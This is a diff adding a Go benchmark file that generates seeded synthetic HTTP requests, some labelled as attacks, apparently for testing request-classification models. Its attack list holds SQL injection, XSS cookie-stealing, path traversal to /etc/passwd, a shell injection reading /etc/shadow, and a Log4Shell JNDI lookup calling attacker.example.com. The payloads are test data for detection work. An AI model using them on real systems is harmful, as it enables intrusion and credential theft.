@@ -0,0 +1,64 @@
+package bench
+
+import (
+	"fmt"
+	"math/rand"
+	"net/url"
+	"strings"
+)
+
+// Request is a synthetic HTTP request of the load corpus
+type Request struct {
+	// Headers are the request line and headers, as given to the
+	// RequestHeaders models
+	Headers string
+	// Attack is true if the request carries an attack payload
+	Attack bool
+}
+
+var (
+	corpusHosts   = []string{"shop.example.com", "api.example.com", "blog.example.com"}
+	corpusPaths   = []string{"/", "/login", "/search", "/products", "/api/v1/orders", "/static/app.js", "/account/settings"}
+	corpusParams  = []string{"q", "id", "page", "sort", "user", "redirect"}
+	corpusValues  = []string{"shoes", "42", "2", "price_asc", "alice", "/home"}
+	corpusAgents  = []string{"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15", "curl/8.5.0"}
+	corpusAttacks = []string{
+		"1' OR '1'='1",
+		"1 UNION SELECT username, password FROM users--",
+		"<script>alert(document.cookie)</script>",
+		"../../../../etc/passwd",
+		"; cat /etc/shadow",
+		"${jndi:ldap://attacker.example.com/a}",
+	}
+)
+
+// NewCorpus generates size synthetic requests, of which a fraction
+// attackRatio carry an attack payload in a query parameter. The same
+// seed always generates the same corpus, so runs are comparable.
+func NewCorpus(seed int64, size int, attackRatio float64) []Request {
+	r := rand.New(rand.NewSource(seed))
+	corpus := make([]Request, size)
+	for i := range corpus {
+		attack := r.Float64() < attackRatio
+		query := url.Values{}
+		for n := r.Intn(3); n >= 0; n-- {
+			j := r.Intn(len(corpusParams))
+			query.Set(corpusParams[j], corpusValues[j])
+		}
+		if attack {
+			query.Set(corpusParams[r.Intn(len(corpusParams))], corpusAttacks[r.Intn(len(corpusAttacks))])
+		}
+
+		var b strings.Builder
+		fmt.Fprintf(&b, "GET %s?%s HTTP/1.1\n", corpusPaths[r.Intn(len(corpusPaths))], query.Encode())
+		fmt.Fprintf(&b, "Host: %s\n", corpusHosts[r.Intn(len(corpusHosts))])
+		fmt.Fprintf(&b, "User-Agent: %s\n", corpusAgents[r.Intn(len(corpusAgents))])
+		b.WriteString("Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\n")
+		b.WriteString("Accept-Language: en-US,en;q=0.5\n")
+		if r.Intn(2) == 0 {
+			fmt.Fprintf(&b, "Cookie: session=%016x\n", r.Uint64())
+		}
+		corpus[i] = Request{Headers: b.String(), Attack: attack}
+	}
+	return corpus
+}